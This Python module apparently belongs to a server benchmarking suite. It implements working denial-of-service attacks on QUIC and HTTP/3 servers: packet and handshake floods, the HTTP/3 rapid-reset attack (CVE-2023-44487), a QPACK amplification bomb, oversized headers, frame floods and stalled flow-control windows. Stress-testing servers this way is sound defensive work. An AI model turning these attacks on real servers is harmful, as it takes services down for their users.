"""Attacks over QUIC and HTTP/3 (RFC 9000, 21; RFC 9114, 10.5)."""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
import time
from typing import TYPE_CHECKING, Any, Final

from benchmarks.attacks.attack import Attack, Ports
from benchmarks.quic_client import QuicClient, request_bytes
from benchmarks.servers import HOST

if TYPE_CHECKING:
    from collections.abc import Callable

__all__ = ["HTTP3_ATTACKS"]

CONTROL: Final = 2
"""The stream that a `QuicClient` opens first: its control stream."""
FIELDS: Final = b"\xd1\xd7\x50\x09localhost\xc1"
"""GET, https, localhost and /, by the static table (RFC 9204, Appendix A)."""
TABLE: Final = b"\x02\x3f\xe1\x1f\x41x\x7f\xbd\x1d" + b"a" * 3900
"""An encoder stream: a table of 4 KB, and a field of 3.9 KB in it (RFC 9204, 4.3)."""
LARGE: Final = request_bytes(authority="localhost", path="/large")
STEP: Final = 0.002
"""Seconds between one heap of packets and the next."""


def frame(kind: int, content: bytes) -> bytes:
    """RFC 9114, 7.1. ``content``: less than 16 KB."""
    return kind.to_bytes(1, "big") + (0x4000 | len(content)).to_bytes(2, "big") + content


class Attacker(QuicClient):
    """What becomes of its streams is nothing to it: only the connection's end is one."""

    def __init__(self, port: int) -> None:
        super().__init__(port)
        self.upload = 0
        """The stream of a body that has no end."""
        self.asked: list[int] = []
        """Streams to be reset."""

    def _completed(self) -> list[tuple[int, bytes]]:
        while (event := self._quic.next_event()) is not None:
            match type(event).__name__:  # they are of two libraries
                case "ConnectionTerminated":
                    raise ConnectionError(event.reason_phrase)
                case "HandshakeCompleted":
                    self.ready = True
        return []

    def begin(self, first: bytes, *, end: bool = False) -> int:
        """A stream."""
        stream: int = self._quic.get_next_available_stream_id()
        self._quic.send_stream_data(stream, first, end)
        return stream


async def rubbish(ports: Ports) -> None:
    """Datagrams that look like a first packet and are none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setblocking(False)
        sock.connect((HOST, ports.quic))
        while True:
            for _ in range(50):
                packet = (
                    b"\xc0\0\0\0\x01\x08" + os.urandom(8) + b"\x08" + os.urandom(8) + b"\0\x44\x9e" + os.urandom(1174)
                )
                with contextlib.suppress(OSError):
                    sock.send(packet)
            await asyncio.sleep(0.001)


async def handshakes(ports: Ports) -> None:
    """First packets as they should be, and nothing is said to the answer."""
    while True:
        for _ in range(5):
            client = QuicClient(ports.quic)
            client.flush()
            client.sock.close()
        await asyncio.sleep(0)


async def on_connections(
    port: int, step: Callable[[Attacker, Any], None], begin: Callable[[Attacker, Any], None] | None, count: int = 2
) -> None:
    """On each: ``begin`` once, then send, receive, ``step``, and again; a new connection when one is ended."""

    async def one() -> None:
        while True:
            client = Attacker(port)
            begun = begin is None
            try:
                while True:
                    client.flush()
                    await asyncio.sleep(STEP)
                    client.receive()
                    if client.timer is not None and client.timer < time.monotonic():
                        client.expire()
                    if client.ready and not begun:
                        begun = True
                        begin(client, client._quic)  # type: ignore[misc]
                    if client.ready:
                        with contextlib.suppress(ValueError):  # no more streams until the server allows more
                            step(client, client._quic)
            except Exception:  # noqa: BLE001 - the end of its connection, as each library says it
                await asyncio.sleep(0.01)
            finally:
                client.sock.close()

    await asyncio.gather(*[one() for _ in range(count)])


def ping(_: Attacker, quic: Any) -> None:
    for number in range(50):
        quic.send_ping(number)


def change_connection_id(_: Attacker, quic: Any) -> None:
    """Another connection ID in every packet, and the old one is given back (RFC 9000, 19.16)."""
    quic.change_connection_id()
    quic.send_ping(1)


def update_keys(_: Attacker, quic: Any) -> None:
    quic.request_key_update()
    quic.send_ping(1)


def rapid_reset(client: Attacker, quic: Any) -> None:
    """Ask, and take it back once it is on its way (CVE-2023-44487 over HTTP/3)."""
    while client.asked:
        quic.reset_stream(client.asked.pop(), 0x10C)
    for _ in range(20):
        client.asked.append(client.begin(LARGE))


def block_qpack(client: Attacker, _: Any) -> None:
    """A field section that waits for an entry of the dynamic table that never comes (RFC 9204, 2.1.2)."""
    client.begin(b"\x01\x03\x02\x00\x80")


def fill_table(_: Attacker, quic: Any) -> None:
    quic.send_stream_data(quic.get_next_available_stream_id(is_unidirectional=True), TABLE)


def bomb_qpack(client: Attacker, _: Any) -> None:
    """A field of 3.9 KB is named by one byte 15,000 times in each request."""
    client.begin(frame(1, b"\x02\x00" + FIELDS + b"\x80" * 15_000), end=True)


def large_heads(client: Attacker, _: Any) -> None:
    """14 KB of fields in each request."""
    fields = b"".join(b"\x27\x00" + b"n-%05d" % one + b"\x7f\x01" + b"v" * 128 for one in range(90))
    for _ in range(5):
        client.begin(frame(1, b"\x00\x00" + FIELDS + fields), end=True)


def begin_upload(client: Attacker, _: Any) -> None:
    client.upload = client.begin(frame(1, b"\x00\x00\xd4" + FIELDS[1:]))


def on_upload(piece: bytes) -> Callable[[Attacker, Any], None]:
    def step(client: Attacker, quic: Any) -> None:
        quic.send_stream_data(client.upload, piece)

    return step


def on_control(piece: bytes) -> Callable[[Attacker, Any], None]:
    def step(_: Attacker, quic: Any) -> None:
        quic.send_stream_data(CONTROL, piece)

    return step


def priorities() -> bytes:
    """PRIORITY_UPDATE of the first request, up and down (RFC 9218, 7.2)."""
    kind = (0x80000000 | 0xF0700).to_bytes(4, "big")
    return b"".join(kind + b"\x04\x00u=%d" % (number % 8) for number in range(200))


async def stall(ports: Ports) -> None:
    """Ask for much on many streams, and neither acknowledge nor grant anything from then on."""
    clients = [QuicClient(ports.quic) for _ in range(10)]
    try:
        while not all(client.ready for client in clients):
            for client in clients:
                client.flush()
                client.receive()
            await asyncio.sleep(0.005)
        for client in clients:
            for _ in range(20):
                client.ask(LARGE)
            client.flush()
        await asyncio.sleep(3600)
    finally:
        for client in clients:
            client.sock.close()


def http3(step: Callable[[Attacker, Any], None], begin: Callable[[Attacker, Any], None] | None = None) -> Attack:
    async def run(ports: Ports) -> None:
        await on_connections(ports.quic, step, begin)

    return Attack(run=run, secure=True, quic=True)


HTTP3_ATTACKS: Final = {
    "QUIC rubbish": Attack(run=rubbish, secure=True, quic=True),
    "QUIC handshakes": Attack(run=handshakes, secure=True, quic=True),
    "QUIC PING": http3(ping),
    "QUIC connection IDs": http3(change_connection_id),
    "QUIC key updates": http3(update_keys),
    "HTTP/3 rapid reset": http3(rapid_reset),
    "HTTP/3 QPACK blocked": http3(block_qpack),
    "HTTP/3 QPACK bomb": http3(bomb_qpack, fill_table),
    "HTTP/3 large heads": http3(large_heads),
    "HTTP/3 empty DATA": http3(on_upload(b"\x00\x00" * 500), begin_upload),
    "HTTP/3 DATA of a byte": http3(on_upload(b"\x00\x01x" * 400), begin_upload),
    "HTTP/3 priorities": http3(on_control(priorities())),
    "HTTP/3 unknown frames": http3(on_control(b"\x21\x01x" * 400)),
    "HTTP/3 closed windows": Attack(run=stall, secure=True, quic=True),
}
